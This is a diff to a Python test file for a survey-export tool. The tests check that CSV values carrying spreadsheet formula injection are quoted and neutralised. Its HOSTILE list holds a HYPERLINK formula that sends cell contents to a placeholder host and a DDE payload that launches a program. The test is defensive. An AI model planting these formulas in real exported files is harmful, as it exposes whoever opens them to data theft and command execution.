@@ -26,7 +26,7 @@ from trygghet import cli, free_text, pipeline, report_promises
 from trygghet.config import Project
 from trygghet.writers import FORMULA_PREFIXES, neutralise, neutralise_frame, write_csv
 
-ROOT = Path(__file__).resolve().parents[1]
+ROOT = Path(__file__).resolve().parents[1] / "examples" / "trollhattan"  # the example workspace
 HOSTILE = ['=HYPERLINK("http://x.example/?d="&A1,"Klicka här")', "+46 70 123 45 67", "-1+1",
            "@SUM(A1)", "\t=1", "\r=1", "=cmd|' /C calc'!A0"]
 # A CR cannot travel inside a CSV export: the loader reads it as a line end.
@@ -204,8 +204,11 @@ def test_carriage_returns_in_values_are_quoted_and_neutralised(project, monkeypa
     from trygghet import load
 
     values = [*HOSTILE, "Ibland\r=HYPERLINK(\"http://x.example\")", "ok\r\n-1+1"]
-    frame = pd.DataFrame([row(respondent_id=f"x{j}", worry=v) for j, v in enumerate(values)],
-                         dtype=str)
+    # An hour apart: an unknown answer costs only that answer, and rows whose answers are
+    # otherwise identical would be double submissions within the same minutes.
+    frame = pd.DataFrame([row(respondent_id=f"x{j}", worry=v,
+                              submitted=f"2020-10-01 {j % 24:02d}:00")
+                          for j, v in enumerate(values)], dtype=str)
     frame.columns = range(len(EXPORT_HEADERS))
     raw = load.RawExport(project / "export.csv", list(EXPORT_HEADERS), frame,
                          np.arange(len(values)) + 2, {"format": "csv", "header_row": 1})
